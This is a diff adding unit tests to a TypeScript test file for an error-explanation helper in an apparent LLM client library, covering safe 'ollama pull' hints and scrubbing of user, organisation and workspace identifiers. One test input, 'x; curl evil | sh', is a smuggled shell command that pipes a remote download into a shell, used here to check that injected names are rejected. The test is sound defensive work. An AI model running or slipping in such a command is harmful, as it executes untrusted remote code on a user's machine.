@@ -131,6 +131,23 @@ describe("explainFailure", () => {
     expect(failure.message).toContain('"gpt[31m-5x"');
   });
 
+  it("puts into a command to copy only what is a plain name", () => {
+    const hintFor = (model: string) =>
+      explainFailure({
+        dialect: "ollama",
+        step: "model",
+        status: 404,
+        headers: {},
+        body: { error: "model not found" },
+        text: "",
+        context: { model },
+      }).hint;
+    expect(hintFor("hf.co/org/llama3.2:1b-q4_K_M")).toContain(
+      "`ollama pull hf.co/org/llama3.2:1b-q4_K_M`",
+    );
+    expect(hintFor("x; curl evil | sh")).toContain("`ollama pull MODEL`");
+  });
+
   it("never calls a key bad for a 5xx, an unknown status or a strange body", () => {
     for (const dialect of DIALECTS) {
       for (const status of [500, 502, 503, 504, 520, 529, 599, 418, 451, 200]) {
@@ -238,6 +255,9 @@ describe("secrets in foreign texts", () => {
     ["ftp://me:pw@host/file", "ftp://[hidden]@host/file"],
     ["User 'BOB SMITH' of account \"XY12345\"", "User [hidden] of account [hidden]"],
     ["\u001b[31mred\u001b[0m\u0007\n\u202etxet", "red txet"],
+    ["calls on behalf of user alice.b", "calls on behalf of user [hidden]"],
+    ["in organization org-abc123XYZ on tokens", "in organization [hidden] on tokens"],
+    ["blocked for workspace: 1234567890", "blocked for workspace: [hidden]"],
     ["projects/my-project/locations/us-central1", "projects/[hidden]/locations/us-central1"],
     ["sk-qVL45***************Ab3d", "[hidden]"],
   ])("scrubs %j", (dirty, clean) => {
